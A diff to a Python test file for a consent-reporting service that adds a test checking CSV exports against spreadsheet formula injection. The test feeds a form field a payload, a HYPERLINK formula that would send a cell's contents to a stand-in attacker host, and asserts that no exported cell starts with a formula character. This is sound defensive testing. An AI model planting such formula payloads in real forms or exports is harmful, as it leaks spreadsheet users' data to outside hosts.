@@ -7,10 +7,10 @@ from typing import Any
 
 import pytest
 
-from app.services import housekeeping, reports
+from app.services import confirmation, housekeeping, reports
 from app.services.kit import Kit
 from tests import audit
-from tests.factories import Clock, notice_hash, send_form, token_in
+from tests.factories import Clock, notice_hash, send_form, token_in, work_off
 from tests.services.person import Person
 
 COLUMNS = [
@@ -268,3 +268,15 @@ def test_a_large_export_comes_line_by_line_and_whole(any_kit: Kit) -> None:
     assert len(records) == copies + 1
     assert {record["fields"]["first_name"] for record in records} == {"Sofie"}
     assert [record["subject"] for record in records] == sorted(record["subject"] for record in records)
+
+
+def test_no_part_of_a_cell_is_a_formula_where_cells_are_split_at_semicolons(any_kit: Kit) -> None:
+    answer = 'ziek;=HYPERLINK("http://evil.example/?"&A1;"klik")'
+    send_form(any_kit, purposes=("medical",), controller="zorgzeker", form="quote", fields={"medical_history": answer})
+    (mail,) = work_off(any_kit)
+    confirmation.confirm(any_kit, token_in(mail, "confirm"), ("medical",))
+
+    text = "".join(reports.consents_as_csv(any_kit, {"status": "granted"}))
+
+    cells = [cell for line in csv.reader(io.StringIO(text), delimiter=";") for cell in line]
+    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == []
